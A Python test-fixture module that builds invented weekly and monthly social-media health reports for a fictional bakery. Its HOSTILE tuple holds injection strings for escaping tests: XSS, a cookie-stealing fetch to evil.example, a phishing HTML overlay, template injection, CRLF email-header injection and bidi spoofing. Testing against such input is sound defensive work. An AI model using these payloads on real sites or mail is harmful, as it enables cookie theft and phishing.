"""Company reports made by hand, with invented people, that show what the report has to cope with."""

from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime, timedelta
from types import MappingProxyType
from typing import Any

from account_health.checks import BY_ID
from account_health.model import (
    AccountReport,
    Achieved,
    Advice,
    Brought,
    Change,
    CompanyReport,
    Days,
    Evidence,
    Finding,
    Gap,
    LastFacts,
    Message,
    Notice,
    OpenItem,
    Option,
    Outside,
    Own,
    Reason,
    Seen,
    Status,
    Task,
    Topic,
    TrendWeek,
    message,
    message_n,
)
from account_health.model.company import Account, Brand, Company, Facts, Person, Platform, ReportSettings

NOW = datetime(2026, 11, 23, 7, 2, tzinfo=UTC)

SITE = "https://www.example.org/"
URLS: MappingProxyType[str, str] = MappingProxyType(
    {
        "facebook": "https://www.facebook.com/stadtbaeckerei",
        "instagram": "https://www.instagram.com/stadtbaeckerei",
        "x": "https://x.com/stadtbaeckerei",
        "blog": SITE,
        "google": "https://www.google.com/maps?cid=123",
    }
)
PLATFORMS: MappingProxyType[str, Platform] = MappingProxyType(
    {
        "facebook": "facebook",
        "instagram": "instagram",
        "x": "x",
        "blog": "blog",
        "google": "google_business_profile",
    }
)
GOOD_AREAS: tuple[tuple[Topic, int | None], ...] = (
    (Topic.ACTIVITY, 100),
    (Topic.CONVERSATION, 100),
    (Topic.PROFILE, 100),
)


def ago(days: float) -> datetime:
    """Return the moment this many days before the report."""
    return NOW - timedelta(days=days)


def company(**changes: Any) -> Company:
    """Return the invented bakery, with some of its facts changed."""
    accounts = tuple(
        Account(
            id=name,
            platform=PLATFORMS[name],
            url=url,
            posts="none" if name == "blog" else "biweekly",
            owner="jana",
        )
        for name, url in URLS.items()
    )
    made = Company(
        id="stadtbaeckerei",
        name="Stadtbäckerei Beispiel",
        report=ReportSettings(
            to=("chefin@example.org",), copy_to=("team@agentur.example",), from_name="Agentur Nordlicht"
        ),
        accounts=accounts,
        region="BY",
        facts=Facts(website=(SITE,), phone=("089 1234567",)),
        brand=Brand(
            name="Agentur Nordlicht", footer="Agentur Nordlicht GmbH, Musterweg 1, 12345 Musterstadt"
        ),
        people=(Person(id="jana", name="Jana Vogt", email="jana@example.org"),),
    )
    return replace(made, **changes)


def finding(check: str, status: Status, message: Message, **more: Any) -> Finding:
    """Return a finding of a check of the table."""
    row = BY_ID[check]
    return Finding(
        **{
            "check": check,
            "topic": row.topic,
            "status": status,
            "severity": row.severity,
            "audience": row.audience,
            "report_rhythm": row.report_rhythm,
            "harm": row.harm_of(status),
            "decision": row.decision,
            "title": row.title,
            "message": message,
            "why": row.why,
            "first_seen": ago(7),
            "weeks": 2,
            "owner": "jana",
            "due": None if row.decision else date(2026, 11, 26),
            **more,
        }
    )


def account(which: str, **more: Any) -> AccountReport:
    """Return the judgement of one of the bakery's accounts; by default all is well."""
    return AccountReport(
        **{
            "account": which,
            "platform": PLATFORMS[which],
            "url": URLS[which],
            "name": which,
            "state": "active",
            "score": 100,
            "cap": None,
            "coverage": 1.0,
            "judged": 30,
            "applicable": 30,
            "areas": GOOD_AREAS,
            "last_post_at": ago(5),
            "requests": 3,
            "seen": Seen(posts=25, since=ago(81), comments=40, reviews=None),
            "open_items": (),
            "no_answer_needed": 0,
            "findings": (
                finding("last-post-age", Status.PASS, message("The newest post is from {day}.", day=ago(5))),
            ),
            "unavailable": (),
            **more,
        }
    )


def unreadable(name: str, reason: Reason, since: datetime) -> AccountReport:
    """Return the judgement of an account of which nothing could be seen."""
    return account(
        name,
        score=None,
        coverage=0.0,
        judged=0,
        areas=tuple((topic, None) for topic, _ in GOOD_AREAS),
        last_post_at=None,
        seen=Seen(posts=None, since=None, comments=None, reviews=None),
        findings=(),
        unavailable=tuple(Gap(part, reason, "HTTP 401, code 190", since) for part in ("posts", "comments")),
    )


def report(*accounts: AccountReport, **more: Any) -> CompanyReport:
    """Return the report of the bakery on these accounts."""
    return CompanyReport(
        **{
            "rules_version": "2026.1",
            "company": "stadtbaeckerei",
            "name": "Stadtbäckerei Beispiel",
            "run": "weekly-2026-W48",
            "now": NOW,
            "next_day": NOW.date() + timedelta(days=7),
            "week": "2026-W48",
            "score": 100,
            "change": 0,
            "coverage": 1.0,
            "accounts": accounts,
            "new": (),
            "resolved": (),
            "todo": (),
            "tasks": more.get("todo", ()),
            "trend": trend(more.get("score", 100)),
            "first": False,
            **more,
        }
    )


def trend(now: int | None) -> tuple[TrendWeek, ...]:
    """Return twelve weeks with a gap that end at this score."""
    scores = (61, 61, 64, 70, 69, None, 72, 74, 74, 71, 69, now)
    return tuple(
        TrendWeek(week=f"2026-W{week}", score=score, coverage=None if score is None else 1.0)
        for week, score in zip(range(37, 49), scores, strict=True)
    )


def question(text: str, author: str, days: float, **more: Any) -> OpenItem:
    """Return a public question that waits."""
    return OpenItem(
        **{
            "id": f"fb-1234_{int(days * 10)}",
            "kind": "comment",
            "url": f"https://www.facebook.com/stadtbaeckerei/posts/1234?comment_id={int(days * 10)}",
            "author": author,
            "excerpt": text,
            "at": ago(days),
            "rating": None,
            "tone": "question",
            **more,
        }
    )


def golden_week() -> CompanyReport:
    """Five channels, six findings, three items that wait, something resolved."""
    items = (
        question(
            "Habt ihr am 24. Dezember noch geöffnet? Wir würden gern vier Stollen vorbestellen.",
            "Sabine M.",
            6.2,
        ),
        question("Gibt es das Kürbiskernbrot auch am Samstag?", "Tom R.", 2.1),
        question(
            "Die Brezel war heute leider nicht frisch, das kenne ich besser.",
            "Erika Muster",
            3.0,
            tone="criticism",
        ),
    )
    facebook = account(
        "facebook",
        score=49,
        cap="unanswered-criticism",
        open_items=items,
        no_answer_needed=9,
        last_post_at=ago(23),
        findings=(
            finding(
                "unanswered-criticism",
                Status.FAIL,
                message(
                    "{complaints} and {questions} are waiting for a reply, the oldest for {age}.",
                    complaints=message_n("a complaint", "{n} complaints", 1),
                    questions=message_n("a question", "{n} questions", 2),
                    age=Days(6),
                ),
                action=message(
                    "Answer {what} today.",
                    what=message(
                        "{complaints} and {questions}",
                        complaints=message_n("the complaint", "the {n} complaints", 1),
                        questions=message_n("the question", "the {n} questions", 2),
                    ),
                ),
                fix_url=items[0].url,
                due=date(2026, 11, 24),
            ),
            finding(
                "last-post-age",
                Status.WARN,
                message(
                    "No new post for {age}; the last one is from {day}.",
                    age=Days(23),
                    day=date(2026, 10, 31),
                ),
                action=message("Publish a post this week."),
                fix_url=URLS["facebook"],
            ),
        ),
    )
    phone = finding(
        "phone",
        Status.FAIL,
        message(
            "It says {there} {place}; your details say {here}.",
            place=message("on the website"),
            there=Outside("089 7654321"),
            here=Outside("089 1234567"),
        ),
        action=message(
            "Change {what} {place} to {here}. Or is {there} right? Then let us know.",
            what=message("the phone number"),
            place=message("on the website"),
            there=Outside("089 7654321"),
            here=Outside("089 1234567"),
        ),
        fix_url=SITE + "kontakt",
    )
    outdated = finding(
        "outdated-text",
        Status.FAIL,
        message(
            "{place}, it still says {words}.",
            place=message("on the website"),
            words=Outside("Sommeraktion bis 31. August 2026"),
        ),
        action=message("Change or delete the text."),
        fix_url=SITE + "angebote",
        weeks=1,
    )
    blog = account("blog", score=71, cap="phone", last_post_at=None, findings=(phone, outdated))
    x = account(
        "x",
        score=49,
        cap="dormant-account",
        last_post_at=ago(190),
        findings=(
            finding(
                "dormant-account",
                Status.FAIL,
                message(
                    "Nothing has been posted for {age}; the last post is from {day}.",
                    age=Days(190),
                    day=ago(190).date(),
                ),
                action=message("Decide what happens next {place}.", place=message("on X")),
                fix_url=URLS["x"],
            ),
        ),
    )
    todo = (task("facebook", facebook.findings[0]), task("blog", phone), task("blog", outdated))
    return report(
        facebook,
        unreadable("instagram", Reason.CREDENTIAL_REFUSED, ago(7)),
        x,
        blog,
        account("google", score=96, seen=Seen(posts=None, since=None, comments=None, reviews=60)),
        score=None,
        change=None,
        coverage=0.84,
        resolved=(Change(account="google", check="phone", title=BY_ID["phone"].title),),
        todo=todo,
        tasks=(*todo, task("facebook", facebook.findings[1]), task("x", x.findings[0])),
    )


def later(value: Any, by: timedelta) -> Any:
    """Return the same with every date in it moved."""
    if isinstance(value, date):
        return value + by
    if isinstance(value, tuple):
        return tuple(later(one, by) for one in value)
    if is_dataclass(value) and not isinstance(value, type):
        changed = {field.name: later(getattr(value, field.name), by) for field in fields(value)}
        return replace(value, **changed)
    return value


def month_begins() -> CompanyReport:
    """The month's first report of the golden week's company, with everything that a report may tell beside findings."""
    week = golden_week()
    told: dict[str, dict[str, Any]] = {
        "facebook": {
            "ideas": (
                message("A question you keep hearing on the phone, with the answer."),
                message("The first weeks of an apprentice or a new colleague, in their own words."),
                message("One step of your work that customers never see, in three photos."),
            ),
        },
        "x": {
            "advice": Advice(
                choice="dormant",
                message=message(
                    "Our advice: let this channel rest, and say in the profile where to find you."
                ),
                reasons=(message("Nobody has written there in the last three months."),),
                options=(
                    Option(
                        choice="dormant",
                        takes=message(
                            "about {once} minutes once for a sentence in the profile, then {minutes} a week for replies",
                            once=10,
                            minutes=10,
                        ),
                    ),
                    Option(
                        choice="revive",
                        takes=message(
                            "{rhythm}, about {minutes} minutes a week with the answers",
                            rhythm=message("one post a month"),
                            minutes=12,
                        ),
                    ),
                    Option(
                        choice="close",
                        takes=message(
                            "about {once} minutes once, with a last post that says where to go", once=45
                        ),
                    ),
                ),
            ),
        },
        "instagram": {"last_facts": LastFacts(at=ago(14), last_post_at=ago(16), waiting=2)},
    }
    cares = tuple(
        finding(check, Status.FAIL, sentence, action=action, weeks=1)
        for check, sentence, action in (
            (
                "description",
                message("The description is empty."),
                message("Write two sentences: what you offer, where, and for whom."),
            ),
            (
                "picture",
                message("The profile picture is missing."),
                message("Upload your logo and a picture of your place."),
            ),
        )
    )
    accounts = tuple(
        replace(
            one,
            **told.get(one.account, {}),
            findings=(*one.findings, *cares) if one.account in {"facebook", "x", "google"} else one.findings,
        )
        for one in week.accounts
    )
    december: CompanyReport = later(replace(week, accounts=accounts), timedelta(days=14))
    return replace(
        december,
        week="2026-W50",
        month_begins=True,
        notices=(
            Notice(
                kind="pause_ahead",
                message=message(
                    "{name} from {first} to {last}.",
                    name=message("Company holidays"),
                    first=date(2026, 12, 23),
                    last=date(2027, 1, 6),
                ),
                action=message("Before that: {things}.", things=(message("enter special hours on Google"),)),
            ),
            Notice(
                kind="mute_ended",
                message=message(
                    "“{check}” was muted until {day} and is reported again. The reason was: {reason}.",
                    check=BY_ID["rating"].title,
                    day=date(2026, 12, 1),
                    reason=Own("Umbau"),
                ),
                account="google",
            ),
        ),
        achieved=achieved_in_november(),
        results=november(),
    )


def quiet_month() -> CompanyReport:
    """The month's first report of a company where all is well."""
    december: CompanyReport = later(good_week(), timedelta(days=14))
    return replace(
        december, week="2026-W50", month_begins=True, achieved=achieved_in_november(), results=november()
    )


def achieved_in_november() -> Achieved:
    """Fourteen answers, and two facts put right."""
    return Achieved(
        month="2026-11",
        answered=14,
        complete=True,
        median_hours=3.2,
        corrected=(
            Change(account="google", check="phone", title=BY_ID["phone"].title),
            Change(account="blog", check="hours", title=BY_ID["hours"].title),
        ),
    )


def november() -> tuple[Brought, ...]:
    """What November brought: of every kind one, with a course of the stars and a review that praises."""
    month: dict[str, Any] = {"first": date(2026, 11, 1), "last": date(2026, 11, 30)}
    today = date(2026, 12, 7)
    return (
        Brought(
            account="facebook", kind="followers", value=1204, last=today, change=-3, since=date(2026, 11, 2)
        ),
        Brought(account="google", kind="calls", value=30, **month),
        Brought(account="google", kind="directions", value=52, **month),
        Brought(account="google", kind="clicks", value=140, **month),
        Brought(
            account="google",
            kind="rating",
            value=4.6,
            last=today,
            course=((date(2026, 9, 7), 4.4), (date(2026, 10, 5), 4.5), (date(2026, 11, 2), 4.5)),
        ),
        Brought(account="google", kind="reviews", value=4, **month),
        Brought(account="google", kind="reviews_gone", value=1, stars=1, **month),
        Brought(
            account="google",
            kind="praise",
            value=5,
            last=date(2026, 11, 12),
            text="Die Brezeln sind die besten weit und breit, und alle hinter der Theke sind freundlich.",
        ),
    )


def good_week() -> CompanyReport:
    """Everything was seen, nothing waits, nothing is wrong."""
    return report(
        *(account(name) for name in ("facebook", "instagram", "x")),
        account("blog", last_post_at=None, seen=Seen(posts=None, since=None, comments=None, reviews=None)),
        account(
            "google",
            seen=Seen(posts=None, since=None, comments=None, reviews=60),
            findings=(finding("phone", Status.PASS, message("The phone number is right.")),),
        ),
        resolved=(Change(account="google", check="phone", title=BY_ID["phone"].title),),
    )


def nothing_readable() -> CompanyReport:
    """No channel could be looked at."""
    return report(
        unreadable("facebook", Reason.CREDENTIAL_REFUSED, ago(7)),
        unreadable("blog", Reason.TOO_SLOW, NOW),
        score=None,
        change=None,
        coverage=0.0,
        trend=(
            TrendWeek(week="2026-W47", score=80, coverage=1.0),
            TrendWeek(week="2026-W48", score=None, coverage=0.0),
        ),
    )


def channel_unread() -> CompanyReport:
    """Instagram could not be read, and all else is well."""
    good = good_week()
    blind = replace(
        unreadable("instagram", Reason.CREDENTIAL_REFUSED, ago(7)),
        last_facts=LastFacts(at=ago(7), last_post_at=ago(9), waiting=2),
    )
    accounts = tuple(blind if one.account == "instagram" else one for one in good.accounts)
    return replace(good, accounts=accounts, score=None, change=None, coverage=0.84, resolved=())


def forty_accounts() -> CompanyReport:
    """A company with forty branches on Google: some with a matter, one that cannot be seen, most are well."""

    def branch(number: int) -> AccountReport:
        more: dict[str, Any] = {}
        if number % 9 == 1:
            item = question(
                "Leider nur ein Stern: Wir standen vor verschlossener Tür.",
                "Gast " + "ABCDE"[number // 9],
                4 + number // 10,
                id=f"google-{number}",
                kind="review",
                rating=1,
                tone="criticism",
            )
            answer = finding(
                "unanswered-criticism",
                Status.FAIL,
                message_n(
                    "A complaint has been waiting for a reply for {age}.",
                    "{n} complaints are waiting for a reply, the oldest for {age}.",
                    1,
                    age=Days(4 + number // 10),
                ),
                action=message(
                    "Reply to {author} today, in public: say first what happens now and who is handling it. Then offer a call.",
                    author=Outside(item.author),
                ),
                fix_url=URLS["google"],
            )
            more = {"score": 49, "open_items": (item,), "findings": (answer,)}
        elif number % 7 == 2:
            missing = finding(
                "phone",
                Status.FAIL,
                message(
                    "It says {there} {place}; your details say {here}.",
                    place=message("on the website"),
                    there=Outside("089 1"),
                    here=Outside("089 2"),
                ),
                action=message(
                    "Change {what} {place} to {here}. Or is {there} right? Then let us know.",
                    what=message("the phone number"),
                    place=message("on the website"),
                    there=Outside("089 1"),
                    here=Outside("089 2"),
                ),
                fix_url=URLS["google"],
            )
            more = {"score": 79, "findings": (missing,)}
        made = account("google", name=f"Filiale {number:02}", **more)
        return replace(made, account=f"google-{number:02}")

    blind = replace(
        unreadable("google", Reason.SCOPE_MISSING, ago(7)), account="google-40", name="Filiale 40"
    )
    accounts = (*(branch(number) for number in range(1, 40)), blind)
    todo = tuple(task(one.account, one.findings[0]) for one in accounts if one.open_items and one.findings)[
        :3
    ]
    return report(*accounts, score=None, change=None, coverage=0.97, todo=todo)


def one_channel() -> CompanyReport:
    """A single website with one thing to do and one that could not be seen."""
    website = account(
        "blog",
        score=None,
        coverage=0.8,
        last_post_at=None,
        seen=Seen(posts=None, since=None, comments=None, reviews=None),
        findings=(
            finding(
                "imprint",
                Status.FAIL,
                message("We could not find the legal notice within two clicks."),
                action=message(
                    "Add a link called “Impressum” (legal notice) to every page, ideally in the footer."
                ),
                fix_url=SITE,
            ),
        ),
        unavailable=(Gap("phones", Reason.TOO_SLOW, "no answer within 10 s", NOW),),
    )
    return report(website, score=None, change=None, coverage=0.8, todo=(task("blog", website.findings[0]),))


def week_with_a_technical_matter() -> CompanyReport:
    """The golden week, with a certificate that ends and reads that cost: the agency's to look after."""
    week = golden_week()
    ends = finding(
        "certificate",
        Status.WARN,
        message(
            "The website's certificate expires on {day}, in {days}.", day=date(2026, 12, 4), days=Days(11)
        ),
        action=message("Have the certificate renewed, and find out why automatic renewal failed."),
        fix_url=SITE,
        owner=None,
    )
    more: dict[str, dict[str, Any]] = {
        "blog": {"findings": (*week.accounts[3].findings, ends)},
        "x": {"reads": 42, "cost_usd": 0.21, "month_cost_usd": 0.9, "prices_as_of": date(2026, 8, 22)},
    }
    accounts = tuple(replace(one, **more.get(one.account, {})) for one in week.accounts)
    return replace(week, accounts=accounts, todo=(*week.todo[:2], task("blog", ends), week.todo[2]))


def nothing_for_the_owner() -> CompanyReport:
    """The only thing to do is the agency's."""
    ends = finding(
        "certificate",
        Status.WARN,
        message(
            "The website's certificate expires on {day}, in {days}.", day=date(2026, 12, 4), days=Days(11)
        ),
        action=message("Have the certificate renewed, and find out why automatic renewal failed."),
        fix_url=SITE,
    )
    return report(account("facebook"), account("blog", score=94, findings=(ends,)), score=97, change=-3)


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    '</td></tr></table><h1>Ihr Zugang ist gesperrt</h1><a href="https://evil.example/login">Jetzt anmelden</a>',
    '"><style>*{display:none}</style><!--',
    "{{ 7*7 }} {% raw %} ${7*7} {author} {place} %(n)s",
    "Besuchen Sie evil.example/gewinn und www.evil.example oder schreiben Sie an chef@evil.example",
    "Tricky \u202egnp.exe\u202c \u2066bidi\u2069 \u0000 \u0007 \u200b\u00ad nul and bell",
    "Zeile 1\r\nBcc: victim@example.com\r\n\r\n<html><body>zweiter Body",
    "<![endif]--><!--[if mso]><b>nur Outlook</b><![endif]-->",
    "x" * 3000,
    "javascript:alert(1) data:text/html;base64,PHNjcmlwdD4=",
    "zalgo: Z\u0351\u036b\u0343\u036aa\u0363\u0368l\u034dg\u0352o =?utf-8?q?Bcc=3A?=",
)


def brand(**changes: Any) -> Brand:
    """Return an agency's look with a logo."""
    made = Brand(
        name="Agentur Nordlicht",
        color="#1f3c88",
        logo="https://www.example.org/logo.png",
        footer="Agentur Nordlicht GmbH, Musterweg 1, 12345 Musterstadt",
    )
    return replace(made, **changes)


def draft(company: Company) -> Company:
    """Return the company with its report in review."""
    return replace(company, report=replace(company.report, mode="review"))


def strangers(texts: tuple[str, ...]) -> CompanyReport:
    """One report with these texts in every place that takes words from outside."""
    items = tuple(
        question(
            text,
            text,
            2 + place,
            id=f"fb-1_{place}",
            tone=("criticism", "question", "other")[place % 3],
        )
        for place, text in enumerate(texts)
    )
    findings = tuple(
        finding(
            check,
            Status.FAIL,
            message(
                "It says {there} {place}; your details say {here}.",
                place=message("on the website"),
                there=Outside(text),
                here=Outside(text),
            ),
            action=message(
                "Reply to {author} today. Two friendly sentences are enough.", author=Outside(text)
            ),
            fix_url=text,
        )
        for check, text in zip(("phone", "address", "website", "email", "outdated-text"), texts, strict=False)
    )
    facebook = account(
        "facebook", score=49, name=texts[0], open_items=items, findings=findings, no_answer_needed=2
    )
    again = account("facebook", score=60, name=texts[1], findings=findings[:1])
    return report(
        facebook,
        replace(again, account="facebook-2"),
        score=54,
        coverage=0.9,
        todo=tuple(task("facebook", one) for one in findings[:3]),
    )


def strange_company(texts: tuple[str, ...]) -> Company:
    """Return the bakery with these texts in every field that a registry file fills."""
    made = company(
        name=texts[2],
        people=(Person(id="jana", name=texts[3]),),
        brand=Brand(name=texts[4], footer=texts[5]),
    )
    return replace(made, report=replace(made.report, from_name=texts[7]))


def fifteen_findings() -> CompanyReport:
    """Five channels with three findings each, all new."""
    checks = ("phone", "address", "outdated-text")
    accounts = tuple(
        account(
            which,
            score=60,
            findings=tuple(
                finding(
                    check,
                    Status.FAIL,
                    message(
                        "It says {there} {place}; your details say {here}.",
                        place=message("on the website"),
                        there=Outside(f"{which} {check} 1"),
                        here=Outside("2"),
                    ),
                    action=message("Put your postal address there."),
                    fix_url=SITE + f"kontakt/{which}",
                    weeks=1,
                )
                for check in checks
            ),
        )
        for which in URLS
    )
    return report(*accounts, score=60, todo=tuple(task(one.account, one.findings[0]) for one in accounts[:3]))


def many_findings() -> CompanyReport:
    """Five hundred findings and as many items that wait."""
    checks = ("phone", "address", "website", "hours", "outdated-text")
    accounts = tuple(
        replace(
            account(
                "facebook",
                score=30,
                name=f"Filiale {number}",
                open_items=tuple(
                    question("Habt ihr offen? " * 20, "Sabine M.", 2 + days) for days in range(10)
                ),
                findings=tuple(
                    finding(
                        check,
                        Status.FAIL,
                        message(
                            "It says {there} {place}; your details say {here}.",
                            place=message("on the website"),
                            there=Outside("Marktplatz 1, 80331 München " * 12),
                            here=Outside("Marktplatz 2, 80331 München " * 12),
                        ),
                        action=message("Put your postal address there."),
                        fix_url=SITE + "kontakt",
                    )
                    for check in checks
                ),
            ),
            account=f"facebook-{number}",
        )
        for number in range(100)
    )
    return report(*accounts, score=30, todo=())


def task(account_id: str, found: Finding) -> Task:
    """Return the thing to do that follows from a finding."""
    assert found.action is not None
    return Task(
        account=account_id,
        check=found.check,
        severity=found.severity,
        text=found.action,
        url=found.fix_url,
        minutes=BY_ID[found.check].effort.minutes,
        owner=found.owner,
        due=found.due,
        harm=found.harm,
        decision=found.decision,
    )


def whole_week() -> CompanyReport:
    """The golden week with everything that a report can hold: advice, ideas, notices, last facts, figures, proofs."""
    week = golden_week()
    facebook, instagram, x, blog, google = week.accounts
    ideas = tuple(
        message(text)
        for text in (
            "Ask the bakehouse for a picture of the new bread.",
            "Ask at the counter what customers want to know this week.",
            "Ask the office which days are free.",
        )
    )
    advice = Advice(
        choice="dormant",
        message=message("We recommend to say on the profile that it rests."),
        reasons=(message("Nobody has written to you there for half a year."),),
        options=(
            Option(choice="dormant", takes=message("ten minutes, once")),
            Option(choice="revive", takes=message("an hour a month")),
            Option(choice="close", takes=message("half an hour, once")),
        ),
    )
    outdated = replace(
        blog.findings[1],
        evidence=(
            Evidence(SITE + "angebote", ago(85), "Sommeraktion bis 31. August 2026: jedes dritte Brot"),
        ),
    )
    rating = finding(
        "rating",
        Status.PASS,
        message("{stars} of 5 stars from {n} reviews.", stars="4,6", n=60),
        first_seen=None,
        weeks=None,
    )
    return replace(
        week,
        accounts=(
            replace(facebook, ideas=ideas),
            replace(
                instagram,
                last_facts=LastFacts(at=ago(14), last_post_at=ago(16), waiting=2, rating=None),
            ),
            replace(x, advice=advice),
            replace(blog, findings=(blog.findings[0], outdated)),
            replace(google, findings=(*google.findings, rating)),
        ),
        score=None,
        notices=(
            Notice(
                kind="pause_ahead",
                message=message(
                    "Holidays from {start} to {end}.", start=date(2026, 12, 24), end=date(2027, 1, 6)
                ),
                action=message("Say so on your channels."),
            ),
        ),
        achieved=Achieved(
            month="2026-10",
            answered=14,
            complete=True,
            median_hours=3.2,
            corrected=(Change(account="google", check="phone", title=BY_ID["phone"].title),),
        ),
        results=november(),
    )


def strange_whole_week(texts: tuple[str, ...]) -> CompanyReport:
    """The strangers' report with these texts in the places that only the whole report shows."""
    week = strangers(texts)
    facebook, again = week.accounts
    words = Outside(texts[0])
    told = replace(
        facebook.findings[0],
        title=message("{there}", there=Outside(texts[1])),
        why=message("{there}", there=Outside(texts[2])),
        evidence=tuple(Evidence(text, ago(3), text) for text in texts),
    )
    advice = Advice(
        choice="close",
        message=message("{there}", there=Outside(texts[3])),
        reasons=(message("{there}", there=Outside(texts[4])),),
        options=(Option(choice="close", takes=message("{there}", there=Outside(texts[5]))),),
    )
    rating = finding("rating", Status.PASS, message("{there}", there=Outside(texts[6])))
    loud = replace(
        facebook,
        findings=(told, *facebook.findings[1:], rating),
        ideas=(message("{there}", there=words),),
        advice=advice,
        last_facts=LastFacts(at=ago(9), waiting=1, rating=4.5),
    )
    return replace(
        week,
        accounts=(loud, replace(again, unavailable=(Gap("posts", Reason.TOO_SLOW, texts[7], ago(2)),))),
        tasks=(*week.todo, task("facebook", facebook.findings[3])),
        notices=(
            Notice(
                kind="mute_ended",
                account="facebook",
                message=message("{there}", there=Outside(texts[8])),
                action=message("{there}", there=Outside(texts[9])),
            ),
        ),
        achieved=Achieved(
            month="2026-10",
            answered=2,
            complete=True,
            median_hours=None,
            corrected=(
                Change(account="facebook", check="phone", title=message("{there}", there=Outside(texts[10]))),
            ),
        ),
    )
